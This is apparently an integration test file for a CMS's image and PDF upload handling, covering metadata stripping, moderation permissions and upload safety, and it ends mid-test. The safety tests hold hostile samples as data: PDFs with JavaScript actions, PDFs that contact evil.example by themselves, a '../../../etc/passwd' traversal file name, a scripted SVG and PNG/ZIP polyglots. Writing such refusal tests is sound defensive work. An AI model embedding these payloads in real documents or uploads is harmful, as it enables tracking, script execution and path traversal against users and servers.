import fs from 'node:fs'
import path from 'node:path'

import { PDFDocument, PDFName } from 'pdf-lib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { type Auth, api, type JsonResponse } from './helpers/api'
import { testDialects } from './helpers/databases'
import {
  HTML_PAGE,
  hugePng,
  PDF_AUTHOR,
  PDF_EARLIER_AUTHOR,
  pdfCarryingAuthors,
  pdfWithCompressedScript,
  phonePhotoWithGps,
  plainPng,
  pngWithZipInChunk,
  pngZipPolyglot,
  simplePdf,
  SVG_WITH_SCRIPT,
} from './helpers/images'
import { type RunningServer, startServer } from './helpers/server'
import { createTeam, TEAM_PASSWORD, type Team } from './helpers/team'

type Size = {
  url: string | null
  filename: string | null
  filesize?: number | null
  mimeType: string | null
  width: number | null
  height: number | null
}
type UploadDoc = {
  id: number | string
  filename: string
  url: string
  mimeType: string
  width?: number
  height?: number
  sizes?: Record<string, Size>
  moderationStatus?: string
  artist?: number | string | null
  [key: string]: unknown
}
type ErrorBody = {
  errors?: { message: string; data?: { errors?: { path?: string; field?: string }[] } }[]
}
type FileUpload = { bytes: Buffer; name: string; type: string }

const UPLOAD_MAX_BYTES = 2 * 1024 * 1024
const SIZE_NAMES = ['thumbnail', 'thumbnailWebp', 'card', 'cardWebp', 'social', 'socialWebp']
const EXPECTED_SIZES: Record<string, [number, number]> = {
  thumbnail: [400, 400],
  card: [800, 600],
  social: [1200, 630],
}

const ARTWORK_FIELDS = `id title alt filename url moderationStatus sizes { thumbnail { url } }`

describe.each(testDialects())('artwork and media uploads on $dialect', ({ dialect, skip }) => {
  let server: RunningServer
  let client: ReturnType<typeof api>
  let team: Team
  let otherArtist: Auth & { userId: number | string }
  let photo: Buffer

  const upload = async (
    collection: 'artwork' | 'media',
    file: FileUpload,
    data: Record<string, unknown>,
    auth?: Auth,
    { method = 'POST', id }: { method?: string; id?: number | string } = {},
  ): Promise<JsonResponse<{ doc?: UploadDoc; message?: string } & ErrorBody>> => {
    const form = new FormData()
    form.append('file', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name)
    form.append('_payload', JSON.stringify(data))
    const response = await fetch(`${server.url}/api/${collection}${id ? `/${id}` : ''}`, {
      method,
      body: form,
      headers: auth?.token ? { authorization: `JWT ${auth.token}` } : {},
    })
    const text = await response.text()
    return {
      status: response.status,
      headers: response.headers,
      body: text ? JSON.parse(text) : {},
    }
  }
  const fetchFile = async (url: string, auth?: Auth) => {
    const response = await fetch(new URL(url, server.url), {
      headers: auth?.token ? { authorization: `JWT ${auth.token}` } : {},
    })
    return {
      status: response.status,
      bytes: Buffer.from(await response.arrayBuffer()),
      type: response.headers.get('content-type'),
    }
  }
  const fileUrls = (doc: UploadDoc) => [
    doc.url,
    ...Object.values(doc.sizes ?? {}).flatMap((size) => (size.url ? [size.url] : [])),
  ]
  const storedFiles = (collection: string) => {
    const dir = path.join(server.mediaDir, collection)
    return fs.existsSync(dir) ? fs.readdirSync(dir).sort() : []
  }
  const artworkFor = (title: string, extra: Record<string, unknown> = {}) => ({
    title,
    alt: `${title}: a test picture with a red corner and a yellow circle on green.`,
    ...extra,
  })
  const peakMemoryKb = () => {
    const status = fs.readFileSync(`/proc/${server.child.pid}/status`, 'utf8')
    return Number(/VmHWM:\s+(\d+)/.exec(status)?.[1])
  }

  beforeAll(async () => {
    if (skip) return
    server = await startServer(dialect, {
      UPLOAD_MAX_BYTES: String(UPLOAD_MAX_BYTES),
      LOGIN_RATE_LIMIT_PER_MINUTE: '0',
    })
    client = api(server.url)
    team = await createTeam(server.url)
    const created = await client.request('/api/users', {
      method: 'POST',
      auth: team.admin,
      body: {
        email: 'second-artist@team.example',
        password: TEAM_PASSWORD,
        name: 'Second artist',
        roles: ['artist'],
      },
    })
    expect(created.status).toBe(201)
    otherArtist = await client.login('second-artist@team.example', TEAM_PASSWORD)
    photo = await phonePhotoWithGps()
  })
  afterAll(async () => {
    await server?.stop()
  })

  describe.skipIf(skip)('privacy of what is stored', () => {
    let stored: UploadDoc

    beforeAll(async () => {
      const response = await upload(
        'artwork',
        { bytes: photo, name: 'Jane Doe at home.jpg', type: 'image/jpeg' },
        artworkFor('Hands around the ward'),
        team.artist,
      )
      expect(response.status, JSON.stringify(response.body)).toBe(201)
      stored = response.body.doc!
    })

    it('the test photo really carries GPS, camera and XMP metadata and an orientation tag', async () => {
      const metadata = await sharp(photo).metadata()
      expect(metadata.orientation).toBe(6)
      expect(metadata.exif?.toString('latin1')).toContain('TestPhoneMaker')
      expect(metadata.xmp?.toString()).toContain('GPSLatitude')
      expect(photo.includes('GPS')).toBe(true)
    })

    it('keeps no EXIF, GPS, XMP or IPTC in the original or in any of the six sizes', async () => {
      expect(Object.keys(stored.sizes ?? {}).sort()).toEqual([...SIZE_NAMES].sort())
      const urls = fileUrls(stored)
      expect(urls).toHaveLength(1 + SIZE_NAMES.length)
      for (const url of urls) {
        const file = await fetchFile(url, team.artist)
        expect(file.status, url).toBe(200)
        const metadata = await sharp(file.bytes).metadata()
        expect(metadata.exif, url).toBeUndefined()
        expect(metadata.xmp, url).toBeUndefined()
        expect(metadata.iptc, url).toBeUndefined()
        expect(metadata.orientation ?? 1, url).toBe(1)
        for (const trace of ['GPS', 'TestPhoneMaker', 'Pocket Camera', 'xmpmeta', 'Exif']) {
          expect(file.bytes.includes(trace), `${url} contains ${trace}`).toBe(false)
        }
      }
      // The same on disk, where a backup would copy them from.
      const onDisk = storedFiles('artwork')
      expect(onDisk).toEqual(expect.arrayContaining(urls.map((url) => path.basename(url))))
      for (const name of onDisk) {
        const bytes = fs.readFileSync(path.join(server.mediaDir, 'artwork', name))
        expect(bytes.includes('GPS'), name).toBe(false)
      }
    })

    it('turns the pixels the right way up before dropping the orientation tag', async () => {
      // Stored landscape with "turn 90° clockwise": it must come out portrait, red block top right.
      expect([stored.width, stored.height]).toEqual([1200, 1600])
      const original = await fetchFile(stored.url, team.artist)
      const { data, info } = await sharp(original.bytes).raw().toBuffer({ resolveWithObject: true })
      const pixel = (x: number, y: number) => [
        ...data.subarray(
          (y * info.width + x) * info.channels,
          (y * info.width + x) * info.channels + 3,
        ),
      ]
      const [red, green] = pixel(info.width - 20, 20)
      expect(red).toBeGreaterThan(200)
      expect(green).toBeLessThan(60)
      expect(pixel(20, 20)[0]).toBeLessThan(120)
    })

    it('makes thumbnail, card and social sizes at their sizes, each also in WebP', async () => {
      for (const [name, [width, height]] of Object.entries(EXPECTED_SIZES)) {
        for (const variant of [name, `${name}Webp`]) {
          const size = stored.sizes?.[variant]
          expect([size?.width, size?.height], variant).toEqual([width, height])
          const file = await fetchFile(size!.url!, team.artist)
          const metadata = await sharp(file.bytes).metadata()
          expect(metadata.format).toBe(variant.endsWith('Webp') ? 'webp' : 'jpeg')
          expect([metadata.width, metadata.height]).toEqual([width, height])
        }
      }
    })

    it('keeps a WebP upload’s sizes in files of their own, each whole', async () => {
      const webp = await sharp(await plainPng(1600, 1000))
        .webp({ quality: 90 })
        .toBuffer()
      const response = await upload(
        'media',
        { bytes: webp, name: 'poster.webp', type: 'image/webp' },
        { alt: 'A green poster with a red corner and a yellow circle.' },
        team.editor,
      )
      expect(response.status, JSON.stringify(response.body)).toBe(201)
      const sizes = Object.values(response.body.doc!.sizes ?? {})
      const names = sizes.map((size) => size.filename)
      // Payload's default names give `card` and `cardWebp` of a WebP the same file.
      expect(new Set(names).size).toBe(SIZE_NAMES.length)
      for (const size of sizes) {
        const bytes = fs.readFileSync(path.join(server.mediaDir, 'media', size.filename!))
        expect(bytes.length, size.filename!).toBe(size.filesize)
        expect(bytes.readUInt32LE(4) + 8, size.filename!).toBe(bytes.length)
        const metadata = await sharp(bytes).metadata()
        expect([metadata.width, metadata.height]).toEqual([size.width, size.height])
      }
    })

    it('names artwork files after the title, never the artist’s own file name', () => {
      expect(stored.filename).toBe('hands-around-the-ward.jpg')
      expect(JSON.stringify(stored)).not.toMatch(/jane/i)
    })

    it('stores files under MEDIA_DIR, one folder per collection', () => {
      expect(storedFiles('artwork')).toContain('hands-around-the-ward.jpg')
    })
  })

  describe.skipIf(skip)('who sees and changes artwork', () => {
    let pending: UploadDoc

    beforeAll(async () => {
      const response = await upload(
        'artwork',
        { bytes: await plainPng(), name: 'mine.png', type: 'image/png' },
        artworkFor('Waiting in the corridor', {
          moderationStatus: undefined,
          artist: otherArtist.userId,
          consentToPublish: false,
        }),
        team.artist,
      )
      expect(response.status, JSON.stringify(response.body)).toBe(201)
      pending = response.body.doc!
    })

    it('creates it pending and credited to the uploading artist, whatever they send', async () => {
      expect(pending.moderationStatus).toBe('pending')
      expect(pending.artist).toBe(team.artist.userId)
      const sneaky = await upload(
        'artwork',
        { bytes: await plainPng(300, 200), name: 'x.png', type: 'image/png' },
        artworkFor('Self approved', { moderationStatus: 'approved' }),
        team.artist,
      )
      expect(sneaky.status).toBe(403)
      expect(sneaky.body.errors?.[0]?.message).toMatch(/Only a moderator/)
    })

    it('hides pending artwork and its files from the public, other artists and other roles', async () => {
      for (const [who, auth] of [
        ['anonymous', undefined],
        ['another artist', otherArtist],
        ['contributor', team.contributor],
      ] as const) {
        const list = await client.request<{ docs: UploadDoc[] }>('/api/artwork?limit=100', { auth })
        expect(list.status).toBe(200)
        expect(
          list.body.docs.map((doc) => doc.id),
          who,
        ).not.toContain(pending.id)
        const one = await client.request(`/api/artwork/${pending.id}`, { auth })
        expect([403, 404], who).toContain(one.status)
        const graphql = await client.graphql<{ Artworks: { docs: { id: unknown }[] } }>(
          `{ Artworks(limit: 100) { docs { ${ARTWORK_FIELDS} } } }`,
          {},
          auth,
        )
        expect(graphql.body.errors, who).toBeUndefined()
        expect(
          graphql.body.data?.Artworks.docs.map((doc) => doc.id),
          who,
        ).not.toContain(pending.id)
        const byId = await client.graphql<{ Artwork: unknown }>(
          `query ($id: ${dialect === 'mongodb' ? 'String' : 'Int'}!) { Artwork(id: $id) { id } }`,
          { id: pending.id },
          auth,
        )
        expect(byId.body.data?.Artwork ?? null, who).toBeNull()
        for (const url of fileUrls(pending)) {
          const file = await fetchFile(url, auth)
          expect([403, 404], `${who} ${url}`).toContain(file.status)
          expect(file.bytes.subarray(0, 4).toString('latin1')).not.toContain('PNG')
        }
      }
    })

    it('lets the artist and moderators see it, files included', async () => {
      for (const auth of [team.artist, team.moderator, team.editor, team.admin]) {
        const one = await client.request<UploadDoc>(`/api/artwork/${pending.id}`, { auth })
        expect(one.status).toBe(200)
        for (const url of fileUrls(pending)) expect((await fetchFile(url, auth)).status).toBe(200)
      }
    })

    it('refuses another artist’s changes and deletion', async () => {
      const patch = await client.request(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: otherArtist,
        body: { title: 'Taken over' },
      })
      expect([403, 404]).toContain(patch.status)
      const removal = await client.request(`/api/artwork/${pending.id}`, {
        method: 'DELETE',
        auth: otherArtist,
      })
      expect([403, 404]).toContain(removal.status)
    })

    it('refuses approval by the artist on REST and GraphQL', async () => {
      const rest = await client.request<ErrorBody>(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: team.artist,
        body: { moderationStatus: 'approved' },
      })
      expect(rest.status).toBe(403)
      const graphql = await client.graphql(
        `mutation ($id: ${dialect === 'mongodb' ? 'String' : 'Int'}!) { updateArtwork(id: $id, data: { moderationStatus: approved }) { id moderationStatus } }`,
        { id: pending.id },
        team.artist,
      )
      expect(graphql.body.errors?.[0]?.message).toMatch(/Only a moderator/)
      const after = await client.request<UploadDoc>(`/api/artwork/${pending.id}`, {
        auth: team.moderator,
      })
      expect(after.body.moderationStatus).toBe('pending')
    })

    it('needs the artist’s consent and reviewed warnings before a moderator can approve', async () => {
      const withoutConsent = await client.request<ErrorBody>(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: team.moderator,
        body: { moderationStatus: 'approved', contentWarnings: { reviewed: true } },
      })
      expect(withoutConsent.status).toBe(400)
      expect(JSON.stringify(withoutConsent.body)).toMatch(/not agreed to publication/)

      const consent = await client.request<{ doc: UploadDoc }>(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: team.artist,
        body: { consentToPublish: true, contentWarnings: { categories: ['police'] } },
      })
      expect(consent.status, JSON.stringify(consent.body)).toBe(200)
      expect(consent.body.doc.moderationStatus).toBe('pending')
      expect(consent.body.doc.consentRecordedAt).toBeTruthy()

      const unreviewed = await client.request<ErrorBody>(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: team.moderator,
        body: { moderationStatus: 'approved' },
      })
      expect(unreviewed.status).toBe(400)
      expect(JSON.stringify(unreviewed.body)).toContain('contentWarnings.reviewed')

      const approved = await client.request<{ doc: UploadDoc }>(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: team.moderator,
        body: { moderationStatus: 'approved', contentWarnings: { reviewed: true } },
      })
      expect(approved.status, JSON.stringify(approved.body)).toBe(200)
      expect(approved.body.doc.moderationStatus).toBe('approved')
      expect(approved.body.doc.moderatedAt).toBeTruthy()
    })

    it('shows approved artwork and its files to everyone, without the private fields', async () => {
      const list = await client.request<{ docs: UploadDoc[] }>('/api/artwork?limit=100')
      const shown = list.body.docs.find((doc) => doc.id === pending.id)
      expect(shown).toBeDefined()
      for (const hidden of [
        'artist',
        'consentToPublish',
        'consentRecordedAt',
        'moderationNote',
        'moderationStatus',
        'moderatedAt',
      ]) {
        expect(shown, hidden).not.toHaveProperty(hidden)
      }
      const one = await client.request<UploadDoc>(`/api/artwork/${pending.id}`)
      expect(one.status).toBe(200)
      expect(one.body).not.toHaveProperty('moderationStatus')
      const graphql = await client.graphql<{
        Artworks: { docs: { id: unknown; moderationStatus?: unknown }[] }
      }>(`{ Artworks(limit: 100) { docs { ${ARTWORK_FIELDS} } } }`)
      expect(graphql.body.errors).toBeUndefined()
      const shownByGraphql = graphql.body.data?.Artworks.docs.find((doc) => doc.id === pending.id)
      expect(shownByGraphql).toBeDefined()
      expect(shownByGraphql?.moderationStatus ?? null).toBeNull()
      const privateField = await client.graphql(`{ Artworks { docs { id artist { id email } } } }`)
      const leaked = JSON.stringify(privateField.body.data ?? {})
      expect(leaked).not.toContain('@team.example')
      for (const url of fileUrls(pending)) {
        const file = await fetchFile(url)
        expect(file.status, url).toBe(200)
        expect(file.type).toMatch(/^image\//)
      }
    })

    it('no longer lets the artist change or delete approved work', async () => {
      const patch = await client.request(`/api/artwork/${pending.id}`, {
        method: 'PATCH',
        auth: team.artist,
        body: { title: 'Changed after approval' },
      })
      expect([403, 404]).toContain(patch.status)
      const removal = await client.request(`/api/artwork/${pending.id}`, {
        method: 'DELETE',
        auth: team.artist,
      })
      expect([403, 404]).toContain(removal.status)
    })

    it('sends rejected work back to the queue when the artist changes it, and shows them why', async () => {
      const response = await upload(
        'artwork',
        { bytes: await plainPng(640, 480), name: 'second.png', type: 'image/png' },
        artworkFor('Second attempt'),
        team.artist,
      )
      const id = response.body.doc!.id
      const rejected = await client.request(`/api/artwork/${id}`, {
        method: 'PATCH',
        auth: team.moderator,
        body: {
          moderationStatus: 'rejected',
          moderationNote: 'Please crop out the car number plate.',
        },
      })
      expect(rejected.status).toBe(200)
      const seen = await client.request<UploadDoc>(`/api/artwork/${id}`, { auth: team.artist })
      expect(seen.body.moderationStatus).toBe('rejected')
      expect(seen.body.moderationNote).toBe('Please crop out the car number plate.')
      const anonymous = await client.request<{ docs: UploadDoc[] }>('/api/artwork?limit=100')
      expect(anonymous.body.docs.map((doc) => doc.id)).not.toContain(id)

      const replaced = await upload(
        'artwork',
        { bytes: await plainPng(600, 400), name: 'cropped.png', type: 'image/png' },
        { title: 'Second attempt' },
        team.artist,
        { method: 'PATCH', id },
      )
      expect(replaced.status, JSON.stringify(replaced.body)).toBe(200)
      expect(replaced.body.doc?.moderationStatus).toBe('pending')
      expect(replaced.body.doc?.width).toBe(600)
    })

    it('lets an artist withdraw their own work before approval', async () => {
      const response = await upload(
        'artwork',
        { bytes: await plainPng(500, 500), name: 'withdraw.png', type: 'image/png' },
        artworkFor('Changed my mind'),
        team.artist,
      )
      const doc = response.body.doc!
      const removal = await client.request(`/api/artwork/${doc.id}`, {
        method: 'DELETE',
        auth: team.artist,
      })
      expect(removal.status).toBe(200)
      expect(storedFiles('artwork')).not.toContain(doc.filename)
    })

    it('does not let moderators or contributors upload artwork, nor the public anything', async () => {
      for (const [collection, auth] of [
        ['artwork', team.moderator],
        ['artwork', team.contributor],
        ['artwork', undefined],
        ['media', undefined],
        ['media', team.moderator],
      ] as const) {
        const response = await upload(
          collection,
          { bytes: await plainPng(100, 100), name: 'x.png', type: 'image/png' },
          artworkFor('Not allowed'),
          auth,
        )
        expect(response.status, `${collection} ${auth ? 'signed in' : 'anonymous'}`).toBe(403)
      }
    })
  })

  describe.skipIf(skip)('who sees media', () => {
    const REVIEWED = { contentWarnings: { reviewed: true } }
    const picture = async (title: string, auth: Auth) => {
      const response = await upload(
        'media',
        { bytes: await plainPng(1300, 700), name: `${title}.png`, type: 'image/png' },
        { alt: `${title}: a green field with a red corner.` },
        auth,
      )
      expect(response.status, JSON.stringify(response.body)).toBe(201)
      return response.body.doc!
    }
    /** What a reader gets of one media document: its JSON, the list, GraphQL and every file. */
    const seenBy = async (media: UploadDoc, auth?: Auth) => {
      const one = await client.request(`/api/media/${media.id}`, { auth })
      const list = await client.request<{ docs: UploadDoc[] }>('/api/media?limit=100', { auth })
      const graphql = await client.graphql<{ MediaItems: { docs: { id: unknown }[] } }>(
        '{ MediaItems(limit: 100) { docs { id } } }',
        {},
        auth,
      )
      const files = await Promise.all(fileUrls(media).map((url) => fetchFile(url, auth)))
      return {
        one: one.status,
        listed: list.body.docs.some((doc) => doc.id === media.id),
        graphql: graphql.body.data?.MediaItems.docs.some((doc) => doc.id === media.id),
        files: [...new Set(files.map((file) => file.status))],
      }
    }
    const HIDDEN = { one: 404, listed: false, graphql: false, files: [403] }
    const SHOWN = { one: 200, listed: true, graphql: true, files: [200] }

    it('keeps a picture for a draft private, files included, until the draft is published', async () => {
      const media = await picture('For a draft', team.contributor)
      expect(fileUrls(media).length).toBe(7)
      expect(await seenBy(media)).toEqual(HIDDEN)
      expect(await seenBy(media, otherArtist)).toEqual(HIDDEN)
      expect(await seenBy(media, team.moderator)).toEqual(HIDDEN)
      expect(await seenBy(media, team.contributor)).toEqual(SHOWN)
      expect(await seenBy(media, team.editor)).toEqual(SHOWN)

      const draft = await client.request<{ doc: { id: number | string } }>(
        '/api/statements?draft=true',
        {
          method: 'POST',
          auth: team.contributor,
          body: { title: 'A draft with a picture', attachments: [media.id] },
        },
      )
      expect(draft.status, JSON.stringify(draft.body)).toBe(201)
      expect(await seenBy(media)).toEqual(HIDDEN)

      const publish = (status: 'published' | 'draft') =>
        client.request(`/api/statements/${draft.body.doc.id}`, {
          method: 'PATCH',
          auth: team.editor,
          body: { _status: status, ...REVIEWED },
        })
      expect((await publish('published')).status).toBe(200)
      expect(await seenBy(media)).toEqual(SHOWN)
      expect(await seenBy(media, otherArtist)).toEqual(SHOWN)
      expect((await publish('draft')).status).toBe(200)
      expect(await seenBy(media)).toEqual(HIDDEN)
    })

    it('shows a picture that a published page’s text uses', async () => {
      const media = await picture('In the text', team.editor)
      expect(await seenBy(media)).toEqual(HIDDEN)
      const body = {
        root: {
          type: 'root',
          version: 1,
          format: '',
          indent: 0,
          direction: null,
          children: [
            {
              type: 'upload',
              version: 3,
              format: '',
              id: 'picture-in-text',
              fields: null,
              relationTo: 'media',
              value: media.id,
            },
          ],
        },
      }
      const page = await client.request('/api/pages', {
        method: 'POST',
        auth: team.editor,
        body: { title: 'A page with a picture', body, _status: 'published', ...REVIEWED },
      })
      expect(page.status, JSON.stringify(page.body)).toBe(201)
      expect(await seenBy(media)).toEqual(SHOWN)
    })
  })

  describe.skipIf(skip)('serving files', () => {
    // Approved artwork: readable by everyone, so what is answered depends on the file alone.
    const approvedArtwork = async (title: string) => {
      const uploaded = await upload(
        'artwork',
        { bytes: await plainPng(500, 500), name: `${title}.png`, type: 'image/png' },
        artworkFor(title, { consentToPublish: true, contentWarnings: { categories: ['police'] } }),
        team.artist,
      )
      expect(uploaded.status, JSON.stringify(uploaded.body)).toBe(201)
      const approved = await client.request<{ doc: UploadDoc }>(
        `/api/artwork/${uploaded.body.doc!.id}`,
        {
          method: 'PATCH',
          auth: team.moderator,
          body: { moderationStatus: 'approved', contentWarnings: { reviewed: true } },
        },
      )
      expect(approved.status, JSON.stringify(approved.body)).toBe(200)
      return approved.body.doc
    }
    const head = (url: string, auth?: Auth) =>
      fetch(new URL(url, server.url), {
        method: 'HEAD',
        headers: auth?.token ? { authorization: `JWT ${auth.token}` } : {},
      })

    it('answers HEAD of a file as GET does, headers without the body (probe: 404)', async () => {
      const artwork = await approvedArtwork('Asked for by HEAD')
      for (const url of fileUrls(artwork)) {
        const got = await fetch(new URL(url, server.url))
        const bytes = Buffer.from(await got.arrayBuffer())
        expect(got.status, url).toBe(200)
        const headed = await head(url)
        expect(headed.status, `HEAD ${url}`).toBe(200)
        expect(headed.headers.get('content-type')).toBe(got.headers.get('content-type'))
        expect(headed.headers.get('content-length')).toBe(String(bytes.length))
        expect((await headed.arrayBuffer()).byteLength).toBe(0)
      }
      // A file the reader may not read is refused alike.
      const pending = await upload(
        'artwork',
        { bytes: await plainPng(300, 300), name: 'pending.png', type: 'image/png' },
        artworkFor('Not yet approved'),
        team.artist,
      )
      const url = pending.body.doc!.url
      expect((await fetch(new URL(url, server.url))).status).toBe(403)
      expect((await head(url)).status).toBe(403)
      expect((await head(url, team.artist)).status).toBe(200)
    })

    it('answers a file missing from disk with 404 and a message, to everyone, without a stack trace in the log', async () => {
      const artwork = await approvedArtwork('Lost from the disk')
      fs.rmSync(path.join(server.mediaDir, 'artwork', artwork.filename))
      const logged = server.output().length
      for (const [who, auth] of [
        ['anonymous', undefined],
        ['moderator', team.moderator],
        ['editor', team.editor],
      ] as const) {
        const response = await fetch(new URL(artwork.url, server.url), {
          headers: auth?.token ? { authorization: `JWT ${auth.token}` } : {},
        })
        expect(response.status, who).toBe(404)
        const body = (await response.json()) as ErrorBody
        expect(body.errors?.[0]?.message, who).toMatch(/no such file/i)
        expect((await head(artwork.url, auth)).status, `HEAD, ${who}`).toBe(404)
      }
      // Its sizes are still there, and still served.
      const thumbnail = artwork.sizes?.thumbnail?.url
      expect(thumbnail).toBeTruthy()
      expect((await fetchFile(thumbnail!)).status).toBe(200)
      const log = server.output().slice(logged)
      expect(log).not.toMatch(/"stack"/)
      expect(log).not.toMatch(/"level":"error"/)
    })
  })

  describe.skipIf(skip)('upload safety', () => {
    const refused = async (
      collection: 'artwork' | 'media',
      file: FileUpload,
      status: number | number[],
      message: RegExp,
    ) => {
      const before = { files: storedFiles(collection) }
      const response = await upload(collection, file, artworkFor('Refused upload'), team.editor)
      expect(Array.isArray(status) ? status : [status]).toContain(response.status)
      expect(response.body.errors?.[0]?.message ?? response.body.message).toMatch(message)
      expect(storedFiles(collection)).toEqual(before.files)
    }

    it('refuses an SVG, even one declared as a PNG', async () => {
      await refused(
        'artwork',
        { bytes: SVG_WITH_SCRIPT, name: 'logo.svg', type: 'image/svg+xml' },
        415,
        /SVG, XML or HTML/,
      )
      await refused(
        'media',
        { bytes: SVG_WITH_SCRIPT, name: 'logo.png', type: 'image/png' },
        415,
        /SVG, XML or HTML/,
      )
    })

    it('refuses a web page renamed .jpg and declared image/jpeg', async () => {
      await refused(
        'artwork',
        { bytes: HTML_PAGE, name: 'holiday.jpg', type: 'image/jpeg' },
        415,
        /read from the file itself/,
      )
      await refused(
        'media',
        { bytes: HTML_PAGE, name: 'report.pdf', type: 'application/pdf' },
        415,
        /read from the file itself/,
      )
    })

    it('refuses PNG/ZIP polyglots, appended or hidden in a chunk', async () => {
      await refused(
        'artwork',
        { bytes: await pngZipPolyglot(), name: 'a.png', type: 'image/png' },
        400,
        /two files in one/,
      )
      await refused(
        'media',
        { bytes: await pngWithZipInChunk(), name: 'b.png', type: 'image/png' },
        400,
        /two files in one/,
      )
    })

    it('refuses a PDF that carries JavaScript, and accepts a plain one without alt text', async () => {
      const scripted = [
        simplePdf('Hello', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '),
        // The same, spelt with the escapes PDF allows in names.
        simplePdf('Hello', '/OpenAction << /S /J#61va#53cript /J#73 (app.alert(1)) >> '),
        // Out of sight of any byte search, in a compressed object stream.
        await pdfWithCompressedScript(),
      ]
      for (const bytes of scripted) {
        await refused('media', { bytes, name: 'x.pdf', type: 'application/pdf' }, 400, /scripts/)
      }
      const pdf = await upload(
        'media',
        {
          bytes: simplePdf('Freedom of information reply'),
          name: 'FOI reply (final).pdf',
          type: 'application/pdf',
        },
        {},
        team.contributor,
      )
      expect(pdf.status, JSON.stringify(pdf.body)).toBe(201)
      expect(pdf.body.doc?.mimeType).toBe('application/pdf')
      expect(pdf.body.doc?.filename).toBe('foi-reply-final.pdf')
      expect((await fetchFile(pdf.body.doc!.url, team.contributor)).status).toBe(200)
    })

    it('refuses a PDF that opens a remote file or address by itself (probe: accepted)', async () => {
      const reaching = [
        simplePdf(
          'Hello',
          '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> ',
        ),
        simplePdf('Hello', '/OpenAction << /S /URI /URI (https://evil.example/track) >> '),
        simplePdf('Hello', '/AA << /WC << /S /URI /URI (https://evil.example/closed) >> >> '),
        simplePdf('Hello', '/Names << /X << /S /G#6FToR /F (remote.pdf) >> >> '),
      ]
      for (const bytes of reaching) {
        await refused('media', { bytes, name: 'x.pdf', type: 'application/pdf' }, 400, /scripts/)
      }
    })

    it('stores a PDF without who made it: information, XMP, comment authors, old revisions', async () => {
      const sent = await pdfCarryingAuthors()
      for (const name of [PDF_AUTHOR, PDF_EARLIER_AUTHOR]) {
        expect(sent.toString('latin1'), 'the test file carries the name').toContain(name)
      }
      const stored = await upload(
        'media',
        { bytes: sent, name: 'reply.pdf', type: 'application/pdf' },
        { caption: 'A reply to our request' },
        team.editor,
      )
      expect(stored.status, JSON.stringify(stored.body)).toBe(201)
      const served = await fetchFile(stored.body.doc!.url, team.editor)
      expect(served.status).toBe(200)
      const onDisk = fs.readFileSync(path.join(server.mediaDir, 'media', stored.body.doc!.filename))
      expect(served.bytes.equals(onDisk)).toBe(true)
      for (const name of [PDF_AUTHOR, PDF_EARLIER_AUTHOR, 'A later save']) {
        expect(onDisk.includes(name), `"${name}" is still in the stored PDF`).toBe(false)
      }
      const document = await PDFDocument.load(onDisk, { updateMetadata: false })
      expect(document.getAuthor()).toBeUndefined()
      expect(document.catalog.has(PDFName.of('Metadata'))).toBe(false)
      // The page, its text and the comment itself are kept.
      expect(document.getPageCount()).toBe(1)
      expect(onDisk.toString('latin1')).toContain('Check page two')
      expect(stored.body.doc!.filesize).toBe(onDisk.length)
    })

    it('refuses PDFs as artwork and images in media without alt text', async () => {
      await refused(
        'artwork',
        { bytes: simplePdf('Not art'), name: 'x.pdf', type: 'application/pdf' },
        415,
        /JPEG, PNG, WebP, AVIF or GIF/,
      )
      const noAlt = await upload(
        'media',
        { bytes: await plainPng(), name: 'x.png', type: 'image/png' },
        {},
        team.editor,
      )
      expect(noAlt.status).toBe(400)
      expect(JSON.stringify(noAlt.body)).toMatch(/alt text/)
    })

    it('answers 413 for a file over UPLOAD_MAX_BYTES, and stores nothing', async () => {
      const justOver = Buffer.concat([
        photo,
        Buffer.alloc(UPLOAD_MAX_BYTES + 1000 - photo.length, 7),
      ])
      await refused(
        'artwork',
        { bytes: justOver, name: 'big.jpg', type: 'image/jpeg' },
        413,
        /too large.*2 MB/,
      )
      const farOver = Buffer.alloc(UPLOAD_MAX_BYTES * 3, 7)
      await refused(
        'media',
        { bytes: farOver, name: 'huge.jpg', type: 'image/jpeg' },
        413,
        /too large.*2 MB/,
      )
    })

    it('refuses a 30,000 × 30,000 image from its header, without decoding it', async () => {
      // Resets the kernel's peak-memory mark for the server, so VmHWM measures only this upload.
      fs.writeFileSync(`/proc/${server.child.pid}/clear_refs`, '5')
      const before = peakMemoryKb()
      await refused(
        'artwork',
        { bytes: hugePng(), name: 'huge.png', type: 'image/png' },
        413,
        /30000 × 30000 pixels/,
      )
      // Decoding would need about 900 MB; the peak memory of the server must not move much.
      expect(peakMemoryKb() - before).toBeLessThan(150 * 1024)
    })

    it('sanitises file names and renames collisions', async () => {
      const wild = '../../../etc/passwd/ÉVIL Náme\u202e.JPG'
      const names: string[] = []
      for (let attempt = 0; attempt < 2; attempt += 1) {
        const response = await upload(
          'media',
          { bytes: await plainPng(300, 300), name: wild, type: 'image/png' },
          { alt: 'A test picture.' },
          team.editor,
        )
        expect(response.status, JSON.stringify(response.body)).toBe(201)
        names.push(response.body.doc!.filename)
      }
      for (const name of names) expect(name).toMatch(/^[a-z0-9-]+\.png$/)
      // The multipart parser keeps only the last path segment; the right-to-left mark goes too.
      expect(names[0]).toBe('evil-name.png')
      expect(names[1]).not.toBe(names[0])
      expect(storedFiles('media')).toEqual(expect.arrayContaining(names))
      expect(
        fs.readdirSync(path.dirname(server.mediaDir)).some((entry) => entry.includes('passwd')),
      ).toBe(false)
    })

    it('answers 400, not 500, to a malformed upload body', async () => {
      const controlCharacter = await upload(
        'media',
        { bytes: await plainPng(100, 100), name: 'bell\u0007.png', type: 'image/png' },
        { alt: 'x' },
        team.editor,
      )
      expect(controlCharacter.status).toBe(400)
      expect(controlCharacter.body.errors?.[0]?.message).toMatch(/could not be read/)
      const form = new FormData()
      form.append(
        'file',
        new Blob([new Uint8Array(await plainPng(100, 100))], { type: 'image/png' }),
        'a.png',
      )
      form.append('_payload', '{"alt": "unfinished')
      const notJson = await fetch(`${server.url}/api/media`, {
        method: 'POST',
